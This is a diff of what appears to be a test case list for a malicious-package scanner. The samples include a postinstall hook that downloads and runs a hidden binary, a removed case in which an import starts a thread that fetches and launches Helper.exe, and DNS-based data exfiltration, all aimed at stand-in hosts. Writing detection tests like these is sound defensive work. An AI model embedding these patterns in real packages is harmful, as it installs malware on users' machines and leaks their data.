@@ -69,15 +69,6 @@ CASES = [
         scripts={"postinstall": "curl -s https://files.example/i -o /tmp/.i; chmod +x /tmp/.i; /tmp/.i"}),
      js({"index.js": "module.exports = 1;\n"},
         scripts={"postinstall": "curl -sL https://files.example/data.json -o data.json && node build.js"})),
-    ("STATIC-DOWNLOAD-RUN-FILE",
-     # envtoolsx-style: started from a thread at import, the dropped program run by its path
-     py(module("import requests, subprocess, threading\nURL = 'http://files.example:20578'\nFILE = 'Helper.exe'\n"
-               "def _go():\n    r = requests.get(URL, stream=True, timeout=10)\n    with open(FILE, 'wb') as f:\n"
-               "        for c in r.iter_content(8192):\n            f.write(c)\n    subprocess.Popen([FILE])\n"
-               "threading.Thread(target=_go, daemon=True).start()\n")),
-     # webdriver-manager-style: download an archive, write it, unpack it with a named tool
-     py(module("import requests, subprocess\ndef fetch(url, dest):\n    r = requests.get(url)\n"
-               "    with open(dest, 'wb') as f:\n        f.write(r.content)\n    subprocess.run(['unzip', '-o', dest], check=True)\n"))),
     ("STATIC-DNS-EXFIL",
      py(module("import socket\ndef send(data):\n    h = data.encode().hex()\n"
                "    for i in range(0, len(h), 50):\n        socket.gethostbyname(f'{h[i:i+50]}.c.exfil.example')\n"
